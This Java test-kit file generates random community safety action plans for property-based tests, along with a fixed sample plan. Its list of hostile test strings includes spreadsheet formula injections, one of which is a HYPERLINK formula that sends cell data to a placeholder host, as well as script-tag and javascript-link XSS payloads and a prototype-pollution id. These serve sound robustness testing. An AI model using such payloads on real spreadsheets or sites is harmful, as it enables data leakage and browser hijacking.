package org.csplan.core.testkit;

import static com.google.common.collect.ImmutableList.toImmutableList;

import com.google.common.base.CharMatcher;
import com.google.common.collect.ImmutableList;
import java.time.Month;
import java.util.List;
import java.util.Optional;
import java.util.function.Function;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Provide;
import net.jqwik.api.domains.DomainContextBase;
import org.csplan.core.model.Action;
import org.csplan.core.model.ActionId;
import org.csplan.core.model.ActionPlan;
import org.csplan.core.model.Agency;
import org.csplan.core.model.AgencyId;
import org.csplan.core.model.AgencyKind;
import org.csplan.core.model.Aim;
import org.csplan.core.model.AimId;
import org.csplan.core.model.Measure;
import org.csplan.core.model.MeasureId;
import org.csplan.core.model.MeasureTier;
import org.csplan.core.model.Note;
import org.csplan.core.model.PlanId;
import org.csplan.core.model.Priority;
import org.csplan.core.model.PriorityId;
import org.csplan.core.model.Progress;
import org.csplan.core.model.Quantity;
import org.csplan.core.model.Recurrence;
import org.csplan.core.model.Status;
import org.csplan.core.model.Term;
import org.csplan.core.model.Timing;
import org.csplan.core.model.When;

/**
 * Arbitrary plans for properties: under {@code @Domain(PlanDomain.class)} a parameter {@code @ForAll ActionPlan} is any
 * plan that a file can hold, and {@code @ForAll String} is any text with words in it, hostile ones first.
 *
 * <p>All references lead somewhere, times and quantities mean what their words say, and statuses are of the usual
 * scale: such a plan could be written down and read again. {@link #plansByApi()} goes further.
 */
public final class PlanDomain extends DomainContextBase {

    private static final CharMatcher BLANK = CharMatcher.whitespace().or(CharMatcher.javaIsoControl());

    /** What has broken pages, tables, data or grammars before. */
    private static final ImmutableList<String> HOSTILE = ImmutableList.of(
            "=1+1",
            "=HYPERLINK(\"http://x.test/?\"&A1,\"here\")",
            "+44 20 7946 0000",
            "-5 degrees",
            "@SUM(A1:A9)",
            "＝1＋1",
            "a; =1+1",
            "a;=1+1",
            "a;\"=1+1\"",
            "list:\n- one\n- two",
            "'quoted'",
            "\"quoted\"",
            "“curly” and ‘single’",
            "\"\"\"",
            "”",
            "a, b and \"c\", d",
            "a;b;c",
            "a\tb",
            "one\r\ntwo\rthree\nfour",
            "first paragraph\n\nsecond paragraph",
            "    four blanks first",
            "# not a comment",
            "lead EDC, Police",
            "action x \"y\"",
            "`code` *stress* [link](javascript:alert(1)) ![x](http://x.test/x.png)",
            "<script>alert('x')</script>",
            "</title></style></textarea><!-- ]]> -->",
            "&amp; &lt; &#x27; &notin;",
            "{{x}} ${x} %s \\n \\u0000 \\",
            "null",
            "undefined",
            "0",
            "007",
            "1e9",
            "1-2",
            "Mar-20",
            "TRUE",
            "£12,500 – 75% of 5.2‰",
            "İstanbul ışık IĞDIR ß ŉ",
            "e\u0301 \u00C5 \u212B",
            "עברית العربية \u202Ereversed\u202C",
            "日本語 한국어 ไทย",
            "👮🏽‍♀️ 🇬🇧 𝒜",
            "\uFEFFmark",
            "zero\u200Bwidth\u00ADsoft\u00A0hard",
            "line\u2028separator\u2029paragraph",
            "a very long text, ".repeat(200) + "ended");

    /** What reads like a word of the language, a number or a time, but may be an id. */
    private static final ImmutableList<String> UNUSUAL_IDS = ImmutableList.of(
            "1",
            "1.2",
            "E",
            "E3",
            "2019-09-30",
            "Q2",
            "done",
            "lead",
            "measure",
            "plan",
            "for",
            "at",
            "by",
            "to",
            "tbc",
            "-",
            "-5",
            ".",
            "_",
            "street-drinking",
            "2019-burglary",
            "Ärzte",
            "e\u0301",
            "𝒜",
            "日本",
            "constructor",
            "__proto__",
            "null");

    private static final ImmutableList<String> UNITS = ImmutableList.of(
            "",
            "%",
            "visits",
            "per 1,000 households",
            "people over 65",
            "young people's sessions",
            "calls by phone",
            "\"quoted\" ones",
            "=cells",
            "–",
            "kW·h");

    private static final ImmutableList<String> TIMES = ImmutableList.of(
            "2019-09-30",
            "30 September 2019",
            "29 February 2020",
            "March 2020",
            "Apr-25",
            "Q2 2019/20",
            "Q3 24/25",
            "2019/20",
            "2019/20 to 2021/22",
            "2024",
            "2024 to 2028",
            "summer 2019",
            "early 2027",
            "end of 2022");

    @Provide
    Arbitrary<ActionPlan> plan() {
        return plans();
    }

    @Provide
    Arbitrary<String> text() {
        return texts();
    }

    /** Plans that a file can hold. */
    public static Arbitrary<ActionPlan> plans() {
        return new Plans(texts(), Arbitraries.of(Status.USUAL_SCALE), Arbitraries.of(UNITS)).plans();
    }

    /** Plans that only a program can make: with a scale of their own, and with texts that are no Unicode. */
    public static Arbitrary<ActionPlan> plansByApi() {
        Arbitrary<String> texts = textsByApi();
        Arbitrary<Status> statuses = Combinators.combine(ids(), texts, Arbitraries.of(Status.Meaning.class))
                .as(Status::new);
        return new Plans(texts, statuses, Arbitraries.oneOf(Arbitraries.of(UNITS), texts)).plans();
    }

    /** Texts with at least one visible character and none that a text file had better not hold. */
    public static Arbitrary<String> texts() {
        Arbitrary<String> characters = Arbitraries.strings()
                .ofMaxLength(20)
                .filter(text -> !CharMatcher.javaIsoControl().matchesAnyOf(text) && isPaired(text));
        return texts(characters);
    }

    /** Texts with at least one visible character, control characters and halves of surrogate pairs among them. */
    public static Arbitrary<String> textsByApi() {
        Arbitrary<String> characters = Arbitraries.strings()
                .withChars("a;\n\t\r\0\u001B\u0085\uD83D\uDE00\u2028\uFFFE=\"'")
                .ofMaxLength(8);
        return texts(Arbitraries.oneOf(characters, Arbitraries.strings().ofMaxLength(20)));
    }

    private static Arbitrary<String> texts(Arbitrary<String> characters) {
        Arbitrary<String> hostile = Arbitraries.of(HOSTILE);
        Arbitrary<String> joined = Combinators.combine(hostile, Arbitraries.of("", " ", "; ", "\n"), characters)
                .as((start, middle, end) -> start + middle + end);
        return Arbitraries.oneOf(hostile, characters, joined).filter(text -> !BLANK.matchesAllOf(text));
    }

    /** Ids of every kind: plain ones, and those that look like something else. */
    public static Arbitrary<String> ids() {
        Arbitrary<String> plain = Arbitraries.strings()
                .withCharRange('a', 'z')
                .withChars("ABC019-_.")
                .ofMinLength(1)
                .ofMaxLength(8);
        return Arbitraries.oneOf(plain, Arbitraries.of(UNUSUAL_IDS));
    }

    /** Times in the forms that the plan language knows. */
    public static Arbitrary<When> times() {
        return Arbitraries.of(TIMES).map(When::of);
    }

    private static boolean isPaired(String text) {
        return text.codePoints().noneMatch(c -> c >= Character.MIN_SURROGATE && c <= Character.MAX_SURROGATE);
    }

    /** A small plan that says everything once, the same each time; for comparing outputs with what was expected. */
    public static ActionPlan samplePlan() {
        Status waiting = new Status("on-hold", "Waiting for funds", Status.Meaning.PAUSED);
        return ActionPlan.builder("exampleton-2019", "Exampleton Community Safety Partnership Action Plan 2019/20")
                .period(When.of("2019/20"))
                .intro("The partnership agreed these **aims**.\n\nThe plan sets out the targets – £ and all.")
                .agency(Agency.of("EDC", "Exampleton District Council", AgencyKind.COUNCIL))
                .agency(Agency.of("Police", "Exampleshire Constabulary", AgencyKind.POLICE))
                .agency(Agency.of("Exampleton-FC", "Exampleton FC"))
                .aim(Aim.of("A", "To tackle all crime through prevention, detection and prosecution"))
                .aim(Aim.of("B", "To protect vulnerable adults"))
                .priority(Priority.of("1", "To establish an effective response to \"knife crime\""))
                .action(Action.builder("street-drinking", "Response to street drinking, begging and \"rough\" nights")
                        .forAim(AimId.of("A"))
                        .forAim(AimId.of("B"))
                        .forPriority(PriorityId.of("1"))
                        .lead(AgencyId.of("EDC"))
                        .lead(AgencyId.of("Police"))
                        .partner(AgencyId.of("Exampleton-FC"))
                        .due(When.of("31 March 2020"))
                        .note(new Note("Agreed with traders:\n\n- leaflets\n- posters"))
                        .note(new Note("=SUM(A1:A9) is what the return said"))
                        .measure(Measure.of("asb", "Incidents of anti-social behaviour")
                                .as(MeasureTier.OUTCOME)
                                .statement())
                        .measure(new Measure.Level(
                                Measure.of("begging", "Begging").as(MeasureTier.OUTCOME),
                                Measure.Goal.REDUCE,
                                Optional.of(Quantity.of("5.20 per 1,000 households")),
                                Optional.of(Quantity.of("4.75 per 1,000 households")),
                                Optional.of(Timing.by(When.of("March 2020")))))
                        .measure(Measure.of("walkabouts", "Walkabouts in the city centre")
                                .as(MeasureTier.OUTPUT)
                                .count(Quantity.of("300 visits"), Timing.during(When.of("2019/20"))))
                        .measure(new Measure.Recurring(
                                Measure.of("surgeries", "Street surgeries"),
                                Recurrence.of(Recurrence.Frequency.WEEKLY),
                                Optional.of(Quantity.of("4 locations")),
                                Optional.empty()))
                        .measure(Measure.of("report", "Report to the board")
                                .deliverable(Timing.by(When.of("October 2019"))))
                        .progress(new Progress(
                                Optional.of(When.of("Q1 2019/20")),
                                Optional.of(Status.USUAL_SCALE.get(1)),
                                Optional.of("Walkabouts under way; one CPW served.")))
                        .progress(new Progress(
                                Optional.of(When.of("Q2 2019/20")), Optional.of(waiting), Optional.empty()))
                        .build())
                .action(Action.builder("fund", "-5% on last year's fund: keep what works")
                        .measure(new Measure.Recurring(
                                Measure.of("fair", "Freshers' fair"),
                                Recurrence.every(Month.NOVEMBER),
                                Optional.empty(),
                                Optional.of(Timing.during(When.of("2019/20 to 2021/22")))))
                        .measure(new Measure.Level(
                                Measure.of("satisfied", "Residents who feel safe"),
                                Measure.Goal.AT_LEAST,
                                Optional.empty(),
                                Optional.of(Quantity.of("75%")),
                                Optional.empty()))
                        .measure(Measure.of("cost", "Costs").count(Quantity.of("£12,500")))
                        .measure(Measure.of("volunteers", "Volunteers").level(Measure.Goal.MAINTAIN))
                        .progress(Progress.of("Bids invited"))
                        .build())
                .action(Action.builder("Nothing known yet").build())
                .term(new Term("CPW", "Community Protection Warning"))
                .build();
    }

    /** Makes plans of these texts, statuses and units. */
    private record Plans(Arbitrary<String> texts, Arbitrary<Status> statuses, Arbitrary<String> units) {

        /** An aim or a priority before it is known which: the two kinds share their ids. */
        private record ObjectiveDraft(String id, String text, boolean isAim) {}

        /** What actions refer to. */
        private record Ground(
                ImmutableList<Agency> agencies, ImmutableList<Aim> aims, ImmutableList<Priority> priorities) {}

        Arbitrary<ActionPlan> plans() {
            // The combinations of what is extreme in each part would outnumber, and take longer than, all other plans.
            return ground().flatMap(this::plans).withoutEdgeCases();
        }

        private Arbitrary<ActionPlan> plans(Ground ground) {
            return Combinators.combine(
                            ids().map(PlanId::of),
                            texts,
                            times().optional(0.5),
                            texts.optional(0.5),
                            few(actions(ground), Action::id, 4),
                            few(terms(), Term::term, 2))
                    .as((id, title, period, intro, actions, terms) -> new ActionPlan(
                            id,
                            title,
                            period,
                            intro,
                            ground.agencies(),
                            ground.aims(),
                            ground.priorities(),
                            actions,
                            terms));
        }

        private Arbitrary<Ground> ground() {
            Arbitrary<ObjectiveDraft> objectives = Combinators.combine(ids(), texts, Arbitraries.of(true, false))
                    .as(ObjectiveDraft::new);
            return Combinators.combine(few(agencies(), Agency::id, 4), few(objectives, ObjectiveDraft::id, 5))
                    .as((agencies, drafts) -> new Ground(
                            agencies,
                            drafts.stream()
                                    .filter(ObjectiveDraft::isAim)
                                    .map(draft -> Aim.of(draft.id(), draft.text()))
                                    .collect(toImmutableList()),
                            drafts.stream()
                                    .filter(draft -> !draft.isAim())
                                    .map(draft -> Priority.of(draft.id(), draft.text()))
                                    .collect(toImmutableList())));
        }

        private Arbitrary<Agency> agencies() {
            return Combinators.combine(
                            ids().map(AgencyId::of),
                            texts,
                            Arbitraries.of(AgencyKind.class).optional(0.5))
                    .as(Agency::new);
        }

        private Arbitrary<Term> terms() {
            return Combinators.combine(texts, texts).as(Term::new);
        }

        private Arbitrary<Action> actions(Ground ground) {
            ImmutableList<AgencyId> agencies = idsOf(ground.agencies(), Agency::id);
            Arbitrary<ImmutableList<AgencyId>> involved = some(agencies);
            Arbitrary<Integer> leadCount = Arbitraries.integers().between(0, agencies.size());
            Arbitrary<Action.Builder> started = Combinators.combine(
                            ids().map(ActionId::of),
                            texts,
                            some(idsOf(ground.aims(), Aim::id)),
                            some(idsOf(ground.priorities(), Priority::id)),
                            involved,
                            leadCount)
                    .as((id, title, aims, priorities, acting, leads) -> {
                        Action.Builder action = Action.builder(id, title);
                        aims.forEach(action::forAim);
                        priorities.forEach(action::forPriority);
                        acting.stream().limit(leads).forEach(action::lead);
                        acting.stream().skip(leads).forEach(action::partner);
                        return action;
                    });
            return Combinators.combine(
                            started,
                            times().optional(0.3),
                            texts.map(Note::new).list().ofMaxSize(2),
                            few(measures(), Measure::id, 4),
                            progress().list().ofMaxSize(3))
                    .as((action, due, notes, measures, progress) -> {
                        due.ifPresent(action::due);
                        notes.forEach(action::note);
                        measures.forEach(action::measure);
                        progress.forEach(action::progress);
                        return action.build();
                    });
        }

        private Arbitrary<Measure> measures() {
            Arbitrary<Measure.About> abouts = Combinators.combine(
                            ids().map(MeasureId::of),
                            Arbitraries.of(MeasureTier.class).optional(0.5),
                            texts)
                    .as(Measure.About::new);
            return abouts.flatMap(about -> Arbitraries.oneOf(
                    Arbitraries.just(about.statement()),
                    Combinators.combine(quantities(), timings().optional(0.5))
                            .as((target, timing) -> new Measure.Count(about, target, timing)),
                    levels(about),
                    Combinators.combine(
                                    recurrences(),
                                    quantities().optional(0.5),
                                    timings().optional(0.5))
                            .as((recurrence, at, timing) -> new Measure.Recurring(about, recurrence, at, timing)),
                    timings().optional(0.5).map(timing -> new Measure.Deliverable(about, timing))));
        }

        private Arbitrary<Measure> levels(Measure.About about) {
            Arbitrary<Optional<Quantity>> quantities = quantities().optional(0.5);
            Arbitrary<Optional<Timing>> timings = timings().optional(0.5);
            return Arbitraries.oneOf(
                    Combinators.combine(
                                    Arbitraries.of(Measure.Goal.REDUCE, Measure.Goal.INCREASE),
                                    quantities,
                                    quantities,
                                    timings)
                            .as((goal, from, to, timing) -> new Measure.Level(about, goal, from, to, timing)),
                    Combinators.combine(quantities, timings)
                            .as((at, timing) ->
                                    new Measure.Level(about, Measure.Goal.MAINTAIN, Optional.empty(), at, timing)),
                    Combinators.combine(
                                    Arbitraries.of(Measure.Goal.AT_LEAST, Measure.Goal.AT_MOST), quantities(), timings)
                            .as((goal, bound, timing) ->
                                    new Measure.Level(about, goal, Optional.empty(), Optional.of(bound), timing)));
        }

        private Arbitrary<Quantity> quantities() {
            Arbitrary<String> numbers = Arbitraries.oneOf(
                    Arbitraries.of(
                            "0", "-3", "5.20", "1,200", "£12,500", "-£5", "0.1", "123456789012345678901234567.89"),
                    Arbitraries.integers().between(1, 100_000).map(String::valueOf));
            return Combinators.combine(numbers, units)
                    .as((number, unit) -> Quantity.of(number + (unit.equals("%") ? "" : " ") + unit));
        }

        private Arbitrary<Recurrence> recurrences() {
            return Arbitraries.oneOf(
                    Arbitraries.of(Recurrence.Frequency.class).map(Recurrence::of),
                    Arbitraries.of(Month.class).map(Recurrence::every));
        }

        private Arbitrary<Timing> timings() {
            return Combinators.combine(Arbitraries.of(Timing.Bound.class), times())
                    .as(Timing::new);
        }

        private Arbitrary<Progress> progress() {
            return Combinators.combine(times().optional(0.5), statuses.optional(0.5), texts.optional(0.7))
                    .filter((when, status, text) -> when.isPresent() || status.isPresent() || text.isPresent())
                    .as(Progress::new);
        }

        private static <T> Arbitrary<ImmutableList<T>> few(Arbitrary<T> items, Function<T, ?> id, int most) {
            return items.list().ofMaxSize(most).uniqueElements(id).map(ImmutableList::copyOf);
        }

        /** Some of these, none twice, in any order. */
        private static <T> Arbitrary<ImmutableList<T>> some(List<T> items) {
            return items.isEmpty()
                    ? Arbitraries.just(ImmutableList.of())
                    : Arbitraries.of(items)
                            .list()
                            .uniqueElements()
                            .ofMaxSize(Math.min(items.size(), 3))
                            .map(ImmutableList::copyOf);
        }

        private static <T, I> ImmutableList<I> idsOf(List<T> items, Function<T, I> id) {
            return items.stream().map(id).collect(toImmutableList());
        }
    }
}
